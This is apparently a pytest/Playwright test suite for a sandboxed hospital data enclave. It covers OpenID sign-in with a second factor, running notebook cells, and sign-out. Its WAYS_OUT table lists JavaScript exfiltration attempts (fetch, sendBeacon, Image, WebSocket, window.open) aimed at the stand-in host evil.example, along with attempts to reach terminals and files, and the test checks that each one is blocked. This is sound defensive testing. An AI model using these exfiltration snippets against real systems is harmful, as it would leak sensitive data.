"""Sign in by a real OpenID provider, work, try to get out, and sign out."""

import re
import shutil
import tempfile
from pathlib import Path

import pytest
from playwright.sync_api import expect, sync_playwright

from enclave.sandbox.released_kernels import release
from tests.browser.conftest import _FLAGS
from tests.builders.axe import violations
from tests.builders.hub import PROJECT, free_port, running
from tests.builders.openid import provider, trust
from tests.conftest import KERNELS


pytestmark = [pytest.mark.hub, pytest.mark.browser, pytest.mark.sandbox]

CELL = """import pandas as pd
lab = pd.read_parquet("/project/data/lab.parquet")
print("rows read:", len(lab))"""

R_CELL = """project <- enclave$project()
cat("rows read:", nrow(project$lab))"""


@pytest.fixture(scope="module")
def hospital(tmp_path_factory):
    """An enclave that asks a provider who somebody is."""
    home = tmp_path_factory.mktemp("openid")
    port, hub_port = free_port(), free_port()
    callback = f"http://127.0.0.1:{hub_port}/hub/oauth_callback"
    with (
        provider(port, callback) as issuer,
        tempfile.TemporaryDirectory(prefix="enc-", dir="/tmp") as runtime,
    ):
        (home / "hub").mkdir(mode=0o700)
        trust(home / "hub", issuer)
        with running(home, Path(runtime.lower()), KERNELS, port=hub_port) as enclave:
            yield enclave


@pytest.fixture
def page():
    expect.set_options(timeout=60_000)
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(
            executable_path=shutil.which("chromium"), args=_FLAGS
        )
        page = chromium.new_page(viewport={"width": 1400, "height": 900})
        page.set_default_timeout(60_000)
        yield page
        chromium.close()


def _sign_in(page, enclave, name):
    page.goto(enclave.url)
    page.get_by_role("link", name=re.compile("Hospital")).click()
    page.get_by_label("User").fill(name)
    page.get_by_label("Password").fill("password")
    page.get_by_label("Code").fill("123456")
    page.get_by_role("button", name="Continue").click()


def _run(page, launcher, cell, said):
    """Begin a notebook with a kernel, and run a cell in it that reads the data."""
    page.goto(page.url.split("/lab")[0].rstrip("/") + "/lab?reset")
    inside = page.frame_locator("#workspace")
    cards = inside.locator(".jp-LauncherCard[data-category=Notebook]")
    cards.filter(has_text=launcher).first.click()
    inside.get_by_text("| Idle").wait_for()
    inside.locator(".jp-Notebook .cm-content").first.click()
    page.keyboard.insert_text(cell)
    page.keyboard.press("Shift+Enter")
    output = inside.locator(".jp-OutputArea-output").first
    expect(output).to_contain_text(re.compile(said))
    page.keyboard.press("Control+s")
    inside.get_by_role("button", name="Rename").click()
    expect(inside.locator(".jp-Dialog")).to_have_count(0)
    return inside


# What a script of the page says when it tries to take something along.
WAYS_OUT = {
    "(await fetch('files/work/x')).status": "403|TypeError",
    "(await fetch('nbconvert/html/work/velkommen.ipynb')).status": "403|TypeError",
    "(await fetch('terminals/1')).status": "403|TypeError",
    "(await fetch('api/terminals', {method: 'POST'})).status": "403|404",
    "(await fetch('api/contents/data/lab.parquet')).status": "403",
    "(await fetch('lab/api/extensions', {method: 'POST'})).status": "403|404|405|500",
    "(await fetch('HUB/hub/api/user')).status": "TypeError",
    "(await fetch('HUB/services/portal/api/projects')).status": "TypeError",
    "(await fetch('https://evil.example/')).status": "TypeError",
    "navigator.sendBeacon('https://evil.example/', 'x')": "false|TypeError|true",
    "String(window.open('https://evil.example'))": "null",
    "top.document.title": "SecurityError",
    "top.location.assign('https://evil.example')": "SecurityError|undefined",
    (
        "await new Promise(r => { const i = new Image(); i.onerror = () => r('no');"
        " i.onload = () => r('yes'); i.src = 'https://evil.example/x' })"
    ): "no",
    (
        "await new Promise(r => { const s = new WebSocket('wss://evil.example/x');"
        " s.onerror = () => r('no'); s.onopen = () => r('yes') })"
    ): "no|SecurityError",
    (
        "(() => { const a = document.createElement('a'); a.download = 'x.csv';"
        " a.href = 'data:text/csv,1'; a.click(); return 'clicked' })()"
    ): "clicked",
}


def test_from_sign_in_to_sign_out(page, hospital, pictures):
    _sign_in(page, hospital, "rikke")
    expect(page.get_by_role("heading", name="My projects")).to_be_visible()
    page.get_by_role("link", name="Open workspace").click()
    page.wait_for_url(f"**/user/rikke/{PROJECT}/**")
    downloads, asked = [], []
    page.on("download", lambda file: downloads.append(file.url))
    # A function of ours: Playwright cannot hold on to a method of a list.
    page.on("request", lambda request: asked.append(request))  # noqa: PLW0108
    if release("r-2026.12").is_installed(hospital.settings):
        _run(page, "R (", R_CELL, r"rows read: [1-9]\d+")
    _run(page, "Python (", CELL, r"rows read: [1-9]\d+")
    page.screenshot(path=pictures / "openid-cell.png")

    for script, said in WAYS_OUT.items():
        answer = page.frames[1].evaluate(
            "async () => { try { return String("
            + script.replace("HUB", hospital.url)
            + ") } catch (e) { return e.name } }"
        )
        assert re.fullmatch(said, answer), (script, answer)
    page.wait_for_timeout(1000)
    assert downloads == []
    assert not [r.url for r in asked if "evil" in r.url and r.response()]

    page.locator("summary", has_text="Menu").click()
    page.get_by_role("link", name="Sign out").click()
    expect(page.get_by_role("link", name=re.compile("Hospital"))).to_be_visible()
    page.goto(f"{hospital.url}/user/rikke/{PROJECT}/lab")
    expect(page.get_by_role("link", name=re.compile("Hospital"))).to_be_visible()


def test_a_password_alone_is_refused_in_words(page, hospital, pictures):
    page.goto(hospital.url)
    page.get_by_role("link", name=re.compile("Hospital")).click()
    page.get_by_label("User").fill("rikke")
    page.get_by_label("Password").fill("password")
    page.get_by_role("button", name="Continue").click()
    expect(page.get_by_role("heading", name="You were not signed in")).to_be_visible()
    expect(page.get_by_text("without a second factor")).to_be_visible()
    for width in (1400, 400):
        page.set_viewport_size({"width": width, "height": 900})
        page.screenshot(path=pictures / f"openid-refused-{width}.png")
    assert violations(page) == []
    page.get_by_role("link", name="Sign in").click()
    expect(page.get_by_role("link", name=re.compile("Hospital"))).to_be_visible()
